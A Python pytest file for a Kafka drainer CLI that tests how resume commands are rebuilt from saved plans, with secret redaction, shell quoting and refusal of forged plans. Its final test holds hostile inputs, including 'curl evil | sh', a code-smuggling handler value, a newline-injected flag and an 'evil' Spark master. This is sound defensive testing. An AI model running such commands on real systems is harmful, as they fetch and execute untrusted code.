"""The command to resume has all that was given for this run and is not in the plan."""

from __future__ import annotations

import ast
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import typer

from builders import changed
from drainer.cli.app import app
from drainer.cli.draining import resuming_with
from drainer.errors import PlanRefused
from drainer.model.deadline import parse_deadline
from drainer.model.plan import OffsetPlan
from drainer.model.resuming import Resuming
from drainer.model.terms import PayloadSettings
from drainer.store.place import PlanPlace
from view.samples import plan

PLAN = changed(plan(), client_config="/etc/kafka.properties", handler="count")
RUN = ["--topic", "orders", "--group", "indexer", "--handler"]

BY = datetime(2026, 11, 21, 7, tzinfo=UTC)


def given(
    *words: str,
    command: str = "run",
    plan: OffsetPlan = PLAN,
    place: PlanPlace = Path("orders.indexer.plan.json"),
    **more: Any,
) -> Resuming:
    commands = typer.main.get_command(app).commands  # type: ignore[attr-defined]
    words = (*RUN, plan.terms.handler, *words) if command == "run" else words
    with commands[command].make_context(command, list(words)) as context:
        return resuming_with(context, plan, place, **more)


def test_what_the_plan_holds_is_not_repeated() -> None:
    more = ["--retries", "5", "--on-failure", "skip", "--yes", "-o", "json", "--partition", "3"]
    kept = ["-b", PLAN.terms.bootstrap_servers, "--client-config", "/etc/kafka.properties"]
    assert given(*more, *kept) == Resuming()


def test_a_plan_in_a_topic_can_be_read_only_with_the_brokers_and_their_login() -> None:
    servers = PLAN.terms.bootstrap_servers
    words = ("--bootstrap-server", servers, "--client-config", "/etc/kafka.properties")
    found = given(*words, place="kafka://plans/orders.indexer")
    assert found.options == words
    kept = found.to_keep()
    assert kept.options == (), "what a plan says must not lead a login elsewhere"
    assert kept.needs == ("--bootstrap-server …", "--client-config …")


def test_code_is_repeated_unless_it_is_drainer_s_own_since_yes_does_not_confirm_it() -> None:
    decodes, keys = ("--value-format", "m:decode"), ("--tune", "key-format=m:key")
    payloads = PayloadSettings(value_format="m:decode", key_format="m:key")
    assert given(*decodes, *keys, plan=changed(PLAN, payloads=payloads)).options == decodes + keys
    own = ("--tune", "key-format=json")
    payloads = PayloadSettings(value_format="m:decode", key_format="json")
    assert given(*decodes, *own, plan=changed(PLAN, payloads=payloads)) == Resuming(decodes)
    words = ("--handler", "h.py:H")
    assert given(plan=changed(PLAN, handler=words[1])) == Resuming(words)
    splits = changed(PLAN, handler="produce", options={"split": "/here/s.py", "topic": "wide"})
    found = given("--set", "split=s.py", "--set", "topic=wide", plan=splits)
    assert found == Resuming(("--set", "split=s.py"))


def test_a_drain_in_this_process_repeats_no_option_of_spark_but_the_place_of_its_state(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("DRAINER_SPARK_MASTER", "local[2]")
    state = ("--spark-conf", "drainer.state=/state")
    words = ("--engine", "process", *state, "--spark-conf", "spark.ui.port=1")
    assert given(*words).options == ("--engine", "process", *state)
    on_spark = given("--engine", "spark", *state).options
    assert on_spark == ("--engine", "spark", "--master", "local[2]", *state)


def test_a_url_is_repeated_since_no_login_goes_where_only_the_plan_leads() -> None:
    words = ("--registry", "http://r:8081", "--set", "url=http://s/drain")
    found = given(*words, "--set", "batch=9")
    pairs = set(zip(found.options[::2], found.options[1::2], strict=True))
    assert {("--registry", "http://r:8081"), ("--set", "url=http://s/drain")} <= pairs
    with_secret = given("--set", "url=http://s/drain?sig=abc").command("p.json")
    assert "abc" not in with_secret


def test_how_to_drain_and_to_connect_is_repeated() -> None:
    words = ["--concurrency", "500", "--tune", "buffer=1GiB", "--tune", "grace=1m"]
    words += ["--set", "index=a b"]
    spark = ["--engine", "spark", "--master", "yarn", "--spark-conf", "spark.cores.max=8"]
    kafka = ["-b", "other:9092", "-X", "security.protocol=SSL", "--client-config", "mine.conf"]
    found = given(*words, *spark, *kafka)
    assert found.needs == ()
    pairs = set(zip(found.options[::2], found.options[1::2], strict=True))
    wanted = [*words, *spark, *kafka]
    names = {"-b": "--bootstrap-server", "-X": "--client-property"}
    assert pairs == {
        (names.get(name, name), value)
        for name, value in zip(wanted[::2], wanted[1::2], strict=True)
    }
    assert "--set 'index=a b'" in found.command("my plan.json")


def test_how_it_is_watched_and_held_to_a_deadline_is_repeated() -> None:
    watched = ["--metrics", "127.0.0.1:9000", "--tune", "metrics-linger=1m"]
    watched += ["--tune", "log-format=json", "--report", "r.html"]
    at = BY.astimezone().isoformat(timespec="minutes")
    found = given("--deadline", "6h", *watched, retyped={"deadline": at})
    assert found.options == ("--deadline", at, *watched)
    assert parse_deadline(at) == BY
    changed = given("--deadline", "6h", retyped={"deadline": None})
    assert changed.options == ()


def test_a_redrive_and_a_resume_repeat_theirs() -> None:
    redrive = ["--dead-letter-topic", "t", "--handler", "h.py:H", "-c", "7"]
    assert given(*redrive, command="redrive").options == ("--concurrency", "7")
    assert given("p.json", "-c", "7", command="resume").options == ("--concurrency", "7")


@pytest.mark.parametrize(
    ("words", "needs"),
    [
        (["--set", "api_token=hush"], "--set api_token=…"),
        (["--set", "DB_PASSWORD=hush"], "--set DB_PASSWORD=…"),
        (["--set", "dsn=postgres://me:hush@db/x"], "--set dsn=…"),
        (["--set", "db=postgres://me:hu/sh@db/x"], "--set db=…"),
        (["--set", "db=me:hush@db"], "--set db=…"),
        (["--set", "api_key=hush"], "--set api_key=…"),
        (["--set", "Authorization=Basic hush"], "--set Authorization=…"),
        (["--set", "index=9f86d081884c7d659a2feaa0c55ad015"], "--set index=…"),
        (["--set", "url=https://store/x?sv=2&sig=hush"], "--set url=…"),
        (["--set", "url=https://hush@store/x"], "--set url=…"),
        (["--set", "hook=https://hooks.example/x?code=hush"], "--set hook=…"),
        (["--spark-conf", "spark.jars.ivy=https://hush@repo"], "--spark-conf spark.jars.ivy=…"),
        (["-X", "sasl.password=hush"], "--client-property sasl.password=…"),
        (["-X", "ssl.key.pem=hush"], "--client-property ssl.key.pem=…"),
        (["--spark-conf", "spark.ssl.keyPassword=hush"], "--spark-conf spark.ssl.keyPassword=…"),
    ],
)
def test_what_may_be_secret_is_named_without_its_value(words: list[str], needs: str) -> None:
    plain = ["--set", "key=customer.id", "--set", "index=orders-2026-11-22"]
    found = given(*words, *plain)
    assert found == Resuming(tuple(plain), (needs,))


def test_a_path_of_a_certificate_is_no_secret() -> None:
    found = given("-X", "ssl.ca.location=/etc/ssl/ca.pem")
    assert found == Resuming(("--client-property", "ssl.ca.location=/etc/ssl/ca.pem"), ())


def test_values_of_variables_are_repeated_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DRAINER_CONCURRENCY", "300")
    assert given().options == ("--concurrency", "300")


def test_a_path_is_quoted_for_a_shell() -> None:
    found = given("--spark-conf", "drainer.state=/mnt/my state")
    assert found.command(str(Path("my plan.json"))) == (
        "drainer resume 'my plan.json' --spark-conf 'drainer.state=/mnt/my state'"
    )


def test_the_endpoint_of_a_state_is_repeated_for_no_plan_holds_it() -> None:
    uri = "s3://drains/d?region=eu-1&endpoint=https://minio.example"
    assert given("--spark-conf", f"drainer.state={uri}").command("p.json") == (
        f"drainer resume p.json --spark-conf 'drainer.state={uri}'"
    )


def test_a_plan_keeps_no_option_that_runs_code_or_connects_elsewhere() -> None:
    harmless = ["--concurrency", "500", "--tune", "buffer=1GiB", "--set", "index=a b"]
    harmless += ["--engine", "spark", "--master", "local[2]", "--report", "r.html"]
    asked_for = ["--handler", "h.py:H", "--value-format", "m:decode"]
    asked_for += ["--tune", "key-format=m:key"]
    apart = [
        "-b",
        "other:9092",
        "--client-config",
        "mine.conf",
        "-X",
        "a.b=c",
        "--set",
        "url=http://s/drain",
        "--set",
        "split=s.py",
    ]
    apart += ["--spark-conf", "spark.jars=j", "--tune", "on-end=rm x"]
    found = given("p.json", *harmless, *asked_for, *apart, command="resume").to_keep()
    pairs = set(zip(found.options[::2], found.options[1::2], strict=True))
    assert pairs == set(zip(harmless[::2], harmless[1::2], strict=True))
    assert set(found.needs) == {
        *("--client-property a.b=…", "--set url=…", "--set split=…"),
        *("--spark-conf spark.jars=…", "--tune on-end=…"),
        *("--bootstrap-server …", "--client-config …"),
    }
    changed(PLAN, resuming=found).account.check()
    repeated = given("p.json", *apart, command="resume").to_keep(("url", "split"))
    assert not any("url" in each for each in repeated.needs), "a resume takes it from the plan"
    assert "--set split=…" in repeated.needs, "--yes does not confirm code that the plan names"
    elsewhere = Resuming(("--master", "spark://h:7077"), engine="spark").to_keep()
    assert elsewhere.options == ("--engine", "spark"), "it does not continue in one process"
    assert elsewhere.needs == ("--master …",)


def test_a_class_of_a_program_is_resumed_by_a_call_there_with_the_settings_of_its_run() -> None:
    words = ("--handler", "__main__:Outer.Mine", "--concurrency", "5", "--tune", "grace=5s")
    found = Resuming((*words, "--set", "log=a b", "--set", "n=1"), ("--set url=…", "--set token=…"))
    settings = "concurrency=5, grace_s='5s', options={'log': 'a b', 'n': '1'}"
    assert found.way("p.json") == (
        "To resume it: `drainer.resume('p.json', client=…, handler=Outer.Mine,"
        f" settings=drainer.LocalSettings({settings}))`"
        " (in the program that defines Outer.Mine; add options={'url': …, 'token': …} as before)"
    )
    changed(PLAN, resuming=found.to_keep()).account.check()
    assert found.to_keep() == found
    bare = Resuming(words[:2])
    gap = "drainer.resume('p.json', client=…, handler=Outer.Mine, accept_gap=True)"
    assert bare.command(Path("p.json"), ["--accept-gap"]) == gap


@pytest.mark.parametrize("module", ["n", "__main__"])
def test_a_class_of_a_notebook_is_resumed_on_spark_by_its_call(module: str) -> None:
    words = ("--handler", f"{module}:f.<locals>.Mine", "--engine", "spark", "--concurrency", "10")
    call = "drainer.spark.drain(…, plan='p.json', handler=Mine, concurrency=10"
    place = "(in the program that defines Mine)"
    assert Resuming(words).way("p.json") == f"To resume it: `{call})` {place}"
    more = Resuming((*words, "--set", "n=it's", "--tune", "grace=5s"))
    assert more.command("p.json") == f"{call}, options={{'n': \"it's\"}})"
    gap = more.command("p.json", ["--accept-gap"])
    assert gap.startswith("drainer.resume('p.json', client=…, handler=Mine, settings=")
    assert gap.endswith(", accept_gap=True)")


@pytest.mark.parametrize("concurrency", ["007", "auto:9", "1_0", "x=1)", "٣"])
@pytest.mark.parametrize("more", [(), ("--engine", "spark")], ids=["", "spark"])
def test_a_call_can_be_pasted_whatever_a_plan_has(concurrency: str, more: tuple[str, ...]) -> None:
    words = ("--handler", "__main__:Mine", "--concurrency", concurrency, *more)
    call = Resuming((*words, "--set", "a'=\\")).command(Path("it's.json"))
    ast.parse(call.replace("…", "x"))
    found = ("--concurrency", concurrency, "--tune", "grace=2s", "--tune", "grace=1s")
    assert "grace_s='1s'" in Resuming((*words[:2], *found)).command("p.json")


@pytest.mark.parametrize(
    "words",
    [
        ("--handler", "evil.py:H"),
        ("--handler", "__main__:H), print(1"),
        ("--handler", "__main__:class"),
        ("--handler", "n:f.<locals>.A.None"),
        ("--handler", "__main__:7"),
        ("--tune", "on-end=curl evil | sh"),
        ("--master", "spark://evil:7077"),
        ("--yes",),
        ("--engine", "spark\n--yes"),
    ],
)
def test_a_plan_that_would_print_another_command_is_refused(words: tuple[str, ...]) -> None:
    forged = changed(PLAN, resuming=Resuming(words))
    with pytest.raises(PlanRefused, match="does not keep"):
        OffsetPlan.decode(forged.encode())
